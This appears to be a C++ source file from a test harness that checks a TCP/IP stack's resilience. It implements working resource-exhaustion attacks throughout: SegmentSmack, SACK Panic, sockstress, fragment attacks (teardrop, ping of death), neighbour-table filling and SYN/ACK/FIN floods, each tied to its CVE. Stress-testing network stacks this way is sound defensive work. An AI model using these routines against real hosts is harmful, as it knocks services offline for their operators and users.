// SPDX-License-Identifier: MIT
// Rows that want memory or time: segments that never become a stream, acknowledgements that never
// end, connections that never read, fragments, floods.
#include <string.h>

#include <algorithm>
#include <memory>

#include "attack.h"

namespace attack {

namespace {

// CVE-2018-5390: thousands of one-byte islands, then the whole stream: it must be exact.
void segment_smack(Context& c) {
  Peer peer(c.wire, c.v4, 22001, kEcho);
  const bool opened = peer.open();
  const uint32_t islands = 3000 * c.scale;
  std::string text(std::min(islands, 20000u) * 2, ' ');
  for (char& x : text) x = static_cast<char>('a' + c.random.below(26));
  for (uint32_t i = 0; i < islands; ++i) {
    const uint32_t at = (i % (static_cast<uint32_t>(text.size()) / 2)) * 2 + 1;
    Tcp tcp = peer.next();
    tcp.seq += at;
    tcp.payload = {static_cast<uint8_t>(text[at])};
    c.paced(tcp_packet(peer.path, tcp), 1900);
    if (i % 64 == 0) c.wire.pump(0);
  }
  const std::string rest = text.substr(0, 6000);
  c.say("opened", opened);
  c.say("exact", peer.echoes(rest, 3000));
  c.say("resets", uint64_t(peer.resets));
}

void put_sack(Tcp& tcp, std::initializer_list<uint32_t> edges) {
  tcp.options = {1, 1, 5, static_cast<uint8_t>(2 + edges.size() * 4)};
  for (const uint32_t edge : edges) {
    tcp.options.resize(tcp.options.size() + 4);
    put32(&tcp.options[tcp.options.size() - 4], edge);
  }
}

// CVE-2019-11478, -5599: every second segment of a long queue, again and again.
void sack_storm(Context& c, Bytes syn_options, uint32_t unit) {
  Peer peer(c.wire, c.v4, 22002, kSource,
            {.syn_options = std::move(syn_options), .answers = false});
  const bool opened = peer.open();
  peer.acknowledge();
  peer.write("100000000\n");  // more than can come meanwhile
  c.wire.pump(100);
  // Let the congestion window grow first, until much is under way at once.
  for (int i = 0; i < 200 && peer.highest - peer.rcv_nxt < 100000; ++i) {
    Tcp tcp = peer.next();
    tcp.ack = std::min(peer.highest, peer.rcv_nxt) - 5000 * unit / 1460;
    peer.segment(tcp);
    c.wire.pump(2);
    if (peer.highest - tcp.ack > 200000) break;
  }
  const uint32_t base = peer.rcv_nxt;
  const uint32_t acks = 2000 * c.scale;
  for (uint32_t i = 0; i < acks; ++i) {
    const uint32_t span = std::max(peer.highest - base, unit * 8);
    const uint32_t at = base + unit + (i * 6 * unit) % span;
    Tcp tcp = peer.next();
    tcp.ack = base;
    put_sack(tcp, {at, at + unit, at + 2 * unit, at + 3 * unit, at + 4 * unit, at + 5 * unit});
    c.paced(tcp_packet(peer.path, tcp), 2000);
    if (i % 32 == 0) c.wire.pump(0);
  }
  c.wire.pump(20);
  c.say("opened", opened);
  c.say("queued", uint64_t(peer.highest - base));
  peer.settings.answers = true;
  peer.acknowledge();
  const size_t before = peer.received.size();
  c.wire.pump(10000, [&] { return peer.received.size() > before + 100000; });
  c.say("goes_on", peer.received.size() > before + 100000);
  c.say("resets", uint64_t(peer.resets));
}

void sack_storm_full(Context& c) {
  sack_storm(c, {2, 4, 5, 180, 4, 2, 3, 3, 7, 1, 1, 1}, 1460);
}

// CVE-2019-11477: the smallest segments of all, many in a queue.
void sack_panic(Context& c) {
  sack_storm(c, {2, 4, 0, 48, 4, 2, 3, 3, 7, 1, 1, 1}, 48);
}

// CVE-2008-4609: 200 connections that ask for much, close their window, and answer every probe.
void sockstress(Context& c) {
  std::vector<std::unique_ptr<Peer>> peers;
  const uint32_t count = 200;
  uint32_t opened = 0;
  for (uint32_t i = 0; i < count; ++i) {
    peers.push_back(std::make_unique<Peer>(c.wire, c.v4, static_cast<uint16_t>(23000 + i), kSource,
                                           Peer::Settings{.window = 20000}));
    Peer& peer = *peers.back();
    if (!peer.open()) continue;
    ++opened;
    peer.settings.window = 0;
    peer.write("100000000\n");
    ++c.sent;
  }
  c.wire.pump(3000 * c.scale);
  uint32_t alive = 0, probes = 0;
  for (const auto& peer : peers) {
    alive += peer->resets == 0;
    probes += peer->segments;
  }
  c.say("opened", uint64_t(opened));
  c.say("alive", uint64_t(alive));
  c.say("segments", uint64_t(probes));
}

// The other way round: as much as their windows take into connections that do not read (an echo to
// somebody who does not read himself), in pieces that cost more memory than they hold.
// `first_port`: of its own, a connection of the last one may live on when its reset was lost.
void hoard(Context& c, uint32_t piece, uint16_t first_port) {
  std::vector<std::unique_ptr<Peer>> peers;
  constexpr uint32_t kConnections = 200;
  constexpr uint32_t kBytes = 64000;
  const Bytes payload(piece, 'x');
  uint32_t opened = 0;
  for (uint32_t i = 0; i < kConnections; ++i) {
    peers.push_back(std::make_unique<Peer>(c.wire, c.v4, static_cast<uint16_t>(first_port + i),
                                           kEcho, Peer::Settings{.window = 10}));
    Peer& peer = *peers.back();
    opened += peer.open();
    peer.settings.window = 0;
  }
  const uint64_t until = now_us() + 2000000 * c.scale;
  for (uint32_t at = 0; at < kBytes && now_us() < until; at += piece) {
    for (const auto& peer : peers) {
      if (peer->peer_window * 1u < piece) continue;
      Tcp tcp = peer->next(kAck | kPsh);
      tcp.payload = payload;
      peer->segment(tcp);
      peer->snd_nxt += piece;
      ++c.sent;
    }
    c.wire.pump(2);
  }
  uint32_t alive = 0;
  for (const auto& peer : peers) alive += peer->resets == 0;
  c.say("opened", uint64_t(opened));
  c.say("alive", uint64_t(alive));
  c.wire.pump(200);
}

// Islands on many connections at once: each a byte that waits for the byte before it.
void islands(Context& c) {
  std::vector<std::unique_ptr<Peer>> peers;
  constexpr uint32_t kConnections = 200;
  constexpr uint32_t kIslands = 250;
  uint32_t opened = 0;
  for (uint32_t i = 0; i < kConnections; ++i) {
    peers.push_back(std::make_unique<Peer>(c.wire, c.v4, static_cast<uint16_t>(25000 + i), kEcho));
    opened += peers.back()->open();
  }
  for (uint32_t at = 1; at <= kIslands; ++at) {
    for (const auto& peer : peers) {
      Tcp tcp = peer->next(kAck | kPsh);
      tcp.seq += at * 2;
      tcp.payload = {'x'};
      c.paced(tcp_packet(peer->path, tcp), 30000);
    }
    c.wire.pump(0);
  }
  c.wire.pump(100);
  uint32_t alive = 0;
  for (const auto& peer : peers) alive += peer->resets == 0;
  c.say("opened", uint64_t(opened));
  c.say("alive", uint64_t(alive));
  // While all of them stand: somebody new.
  Peer fresh(c.wire, c.v4, 25900, kEcho);
  c.say("new_one_echoes", fresh.open() && fresh.echoes("new"));
  c.say("filled", peers[0]->echoes(std::string(kIslands * 2 + 1, 'x'), 3000));
}

void hoard_bytes(Context& c) {
  hoard(c, 1, 24000);
}

void hoard_segments(Context& c) {
  hoard(c, 536, 24200);
}

// CVE-2018-5391, Rose: first pieces of many datagrams, pieces from anywhere; teardrop, ping of
// death, RFC 1858 and 3128.
void fragments(Context& c) {
  const uint32_t count = 5000 * c.scale;
  for (uint32_t i = 0; i < count; ++i) {
    IpOptions ip;
    ip.id = static_cast<uint16_t>(i);
    const Path from{c.v4.from.plus(i % 8), c.v4.to};
    Bytes payload(8 * (1 + c.random.below(100)));
    for (uint8_t& b : payload) b = static_cast<uint8_t>(c.random.next());
    uint8_t protocol = c.random.percent(50) ? 6 : 17;
    switch (c.random.below(6)) {
      case 0:  // first pieces
        ip.fragment = 0x2000;
        break;
      case 1:  // pieces from anywhere
        ip.fragment = static_cast<uint16_t>(0x2000 | c.random.below(8000));
        break;
      case 2:  // ends beyond 65,535
        ip.fragment = static_cast<uint16_t>(8191 - c.random.below(20));
        break;
      case 3:  // tiny: the flags are in the second piece, at offset 1
        payload.resize(8);
        put16(&payload[2], kEcho);
        ip.fragment = 0x2000;
        break;
      case 4:
        ip.fragment = 0x2001;
        protocol = 6;
        break;
      default:  // overlapping what came before
        ip.id = static_cast<uint16_t>(i % 16);
        ip.fragment = static_cast<uint16_t>(0x2000 | c.random.below(30));
    }
    c.paced(ip_packet(from, protocol, payload, ip), 10000);
  }
}

// Neighbours that ask for an answer and do not exist. Not many: the kernel's table is one for the
// whole machine, whatever the namespace. (The unit tests of neighbor_table do it with 100,000.)
void neighbours(Context& c) {
  constexpr uint32_t kNeighbours = 200;
  for (uint32_t i = 0; i < 10000 * c.scale; ++i) {
    Path from = i % 2 ? c.v6 : c.v4;
    from.from = from.from.plus(0x100 + i / 2 % kNeighbours);
    c.paced(udp_packet(from, 5000, kUdpEcho, bytes_of("who is it")), 10000);
  }
  c.wire.pump(100);
}

void flood(Context& c, uint8_t flags) {
  const uint32_t count = 10000 * c.scale;
  for (uint32_t i = 0; i < count; ++i) {
    Tcp tcp;
    tcp.source = static_cast<uint16_t>(1024 + c.random.below(60000));
    tcp.destination = kEcho;
    tcp.seq = static_cast<uint32_t>(c.random.next());
    tcp.ack = static_cast<uint32_t>(c.random.next());
    tcp.flags = flags;
    const Path from{c.v4.from.plus(c.random.below(8)), c.v4.to};
    c.paced(tcp_packet(from, tcp), 20000);
    if (i % 256 == 0) c.wire.pump(0);
  }
}

void ack_flood(Context& c) {
  flood(c, kAck);
}

void fin_flood(Context& c) {
  flood(c, kFin | kAck);
}

void syn_flood(Context& c) {
  flood(c, kSyn);
}

}  // namespace

const std::vector<Row> kLoadRows = {
    {"segment-smack", segment_smack},
    {"sack-storm", sack_storm_full},
    {"sack-panic", sack_panic},
    {"sockstress", sockstress},
    {"islands", islands},
    {"hoard-bytes", hoard_bytes},
    {"hoard-segments", hoard_segments},
    {"fragments", fragments},
    {"neighbours", neighbours},
    {"syn-flood", syn_flood},
    {"ack-flood", ack_flood},
    {"fin-flood", fin_flood},
};

}  // namespace attack
